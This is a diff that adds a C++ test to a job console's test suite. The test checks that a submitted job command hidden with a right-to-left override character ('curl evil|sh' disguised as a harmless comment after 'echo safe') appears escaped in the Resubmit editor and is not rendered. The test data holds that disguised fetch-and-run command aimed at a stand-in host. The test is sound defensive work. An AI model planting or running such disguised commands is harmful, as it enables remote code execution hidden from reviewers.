@@ -358,6 +358,21 @@ TEST_CASE("the operator console, signed in through its form and never by a link,
     }
     CHECK(ran.errors.empty());
     CHECK(re.errors.empty());
+    // A command that hides part of itself (a right-to-left override: "curl evil|sh" shown as
+    // if commented out) is written out in Resubmit's editor, not rendered (helper-51).
+    json hidden = {{"name", "hidden"},
+                   {"tasks", {{{"name", "main"}, {"command", "echo safe # \u202e hs|live lruc"}, {"resourceSpecId", "cpu-1"}}}}};
+    auto made_hidden = rest.Post("/openapi/v1/trainjob", hidden);
+    REQUIRE(made_hidden.http_status == 200);
+    jc::testing::BrowserStep show{"#/jobs/" + made_hidden.body["data"]["jobId"].get<std::string>(), {"Resubmit"}};
+    show.press = "#resubmit";
+    show.press_until = {"id=\"resubmit-note\""};
+    auto shown = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, {show});
+    REQUIRE(shown.pages.size() == 1);
+    INFO(shown.pages[0].pressed.dom.substr(0, 4000));
+    CHECK(shown.pages[0].pressed.reached);
+    CHECK_THAT(shown.pages[0].pressed.dom, Catch::Contains(R"(echo safe # \u202e hs|live lruc)"));
+    CHECK_THAT(shown.pages[0].pressed.dom, !Catch::Contains("\u202e"));
   }
   {  // the files are served by the gateway itself
     httplib::Client http("127.0.0.1", started.rest_port);
